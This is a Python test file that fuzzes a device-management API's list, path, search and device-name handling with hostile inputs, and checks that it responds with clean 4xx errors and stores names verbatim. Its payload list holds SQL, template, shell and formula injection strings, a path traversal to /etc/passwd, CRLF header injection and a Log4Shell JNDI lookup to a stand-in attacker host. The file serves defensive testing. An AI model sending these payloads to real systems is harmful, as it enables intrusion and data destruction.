"""Words that mean something to a database, a shell, a path or a template mean nothing here."""

from __future__ import annotations

import base64
import logging
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import orjson
import pytest

from services.command_queue.app import SERVICE as COMMAND_QUEUE
from services.enrollment.app import SERVICE as ENROLLMENT
from shared.runtime.testing import Trial
from tests.command_queue.fleet import Fleet
from tests.enrollment.conftest import API, House

WORDS = (
    "'; DROP TABLE device; --",
    '" OR 1=1 --',
    "%' OR '1'='1",
    "\\'; SELECT pg_sleep(30); --",
    "$1",
    "{0}",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "$(touch /tmp/attacked)",
    "../../../../etc/passwd",
    "\u0027 OR 1=1",
    "=cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b",
    "a" * 4000,
)


def _cursor(*values: Any) -> str:
    return base64.urlsafe_b64encode(orjson.dumps(list(values))).rstrip(b"=").decode()


CURSORS = (
    "x",
    "!!!!",
    "eyJhIjoxfQ",
    _cursor(),
    _cursor(None),
    _cursor({"a": 1}),
    _cursor("' OR 1=1"),
    _cursor(1 << 62),
    _cursor(str(uuid4()), "b"),
    _cursor("2026-01-01T00:00:00Z", "zz"),
    _cursor("2026-01-01T00:00:00", "aa"),
    _cursor("99999-01-01T00:00:00Z", "aa"),
    _cursor([["deep"] * 50] * 5),
    "A" * 2000,
)


def _lists(service: Any) -> list[tuple[str, list[str]]]:
    """Every list of a service's API: its path and the fields of its query."""
    return [
        (route.path, list(route.query.model_fields))
        for route in service.routes
        if route.listener == "api" and route.method == "GET" and route.query is not None
    ]


async def _never_a_fault(service: Trial, path: str, names: list[str]) -> int:
    """Ask with each word in each field; returns how often."""
    asked = 0
    where = path.replace("{id}", str(uuid4())).replace("{device_id}", str(uuid4()))
    where = where.replace("{command_id}", str(uuid4()))
    for name in names:
        for word in CURSORS if name == "cursor" else (*WORDS, "nul\x00nul"):
            answer = await service.call("GET", f"{where}?{name}={quote(word, safe='')}")
            assert answer.status in {200, 400, 404}, (name, word, answer.text)
            if answer.status == 200 and name != "limit":
                assert answer.json["items"] == [], (name, word)
            asked += 1
    return asked


@pytest.mark.parametrize(("path", "names"), _lists(ENROLLMENT))
async def test_lists_of_enrollment(house: House, path: str, names: list[str]) -> None:
    await house.enrolled()
    assert await _never_a_fault(house.service, path, names)


@pytest.mark.parametrize(("path", "names"), _lists(COMMAND_QUEUE))
async def test_lists_of_command_queue(fleet: Fleet, path: str, names: list[str]) -> None:
    await fleet.ask(await fleet.enroll())
    assert await _never_a_fault(fleet.trial, path, names)


async def test_ids_in_paths_are_ids_or_nothing(house: House) -> None:
    for word in (*WORDS[:-1], "0", "null", str(uuid4()) + "'"):
        encoded = quote(word, safe="")
        for method, path in (
            ("GET", f"{API}/devices/{encoded}"),
            ("DELETE", f"{API}/credentials/{encoded}"),
        ):
            answer = await house.service.call(method, path)
            assert answer.status == 404, (word, answer.text)


async def test_a_search_takes_no_wildcards(house: House) -> None:
    """A percent sign or an underscore is a letter of the name, not every name."""
    await house.enrolled()
    for word in ("%", "_", "%%", "\\%", "\\", "S%", "SERIAL____"):
        found = await house.call("GET", f"/devices?q={quote(word)}")
        assert found["items"] == []
    assert len((await house.call("GET", "/devices?q=serial"))["items"]) == 1


async def test_what_a_device_calls_itself_is_kept_as_it_is_and_harms_nobody(house: House) -> None:
    """A hostile name goes through check-in, store, event and API, and comes out as a name."""
    for word in WORDS[:-1]:
        device = house.device()
        device.identity = await house.identity(await house.credential())
        await house.told()
        message = device.authenticate(DeviceName=word, ModelName=word, OSVersion=word)
        assert (await house.check_in(device, message)).status == 200
        assert (await house.check_in(device, device.token_update())).status == 200
        kept = word.replace("\r", "").replace("\n", "")
        state = (await house.told()).state
        assert (state.name, state.os_version) == (kept, kept)
        answer = await house.service.call("GET", f"{API}/devices/{state.device_id}")
        assert answer.json["name"] == kept
        assert "Set-Cookie" not in answer.headers
    assert len(await house.query("SELECT FROM device")) == len(WORDS) - 1


async def test_what_no_text_may_hold_is_the_senders_fault(
    house: House, fleet: Fleet, caplog: pytest.LogCaptureFixture
) -> None:
    """PostgreSQL keeps NUL in no text, JSON may bring it: 4xx, and no error in the log."""
    device = await house.id_of(await house.enrolled())
    for body in ({"name": "a\x00"}, {"tags": ["\x00"]}, {"user": "\x00b"}):
        answer = await house.service.call("PATCH", f"{API}/devices/{device}", body)
        assert answer.status in {400, 422}, answer.text
    made = await house.service.call("POST", f"{API}/credentials", {"name": "x\x00y"})
    assert made.status in {400, 422}, made.text
    phone = await fleet.enroll()
    good = {"device_ids": [str(phone.device_id)], "idempotency_key": "k", "kind": "device.lock"}
    for bad in (
        {"params": {"message": "a\x00"}},
        {"params": {}, "reason": "because\x00"},
        {"params": {}, "idempotency_key": "key\x00key"},
    ):
        answer = await fleet.trial.call("POST", "/api/v1/commands", good | bad)
        assert answer.status in {400, 422}, (bad, answer.text)
    assert not [one.getMessage() for one in caplog.records if one.levelno >= logging.ERROR]
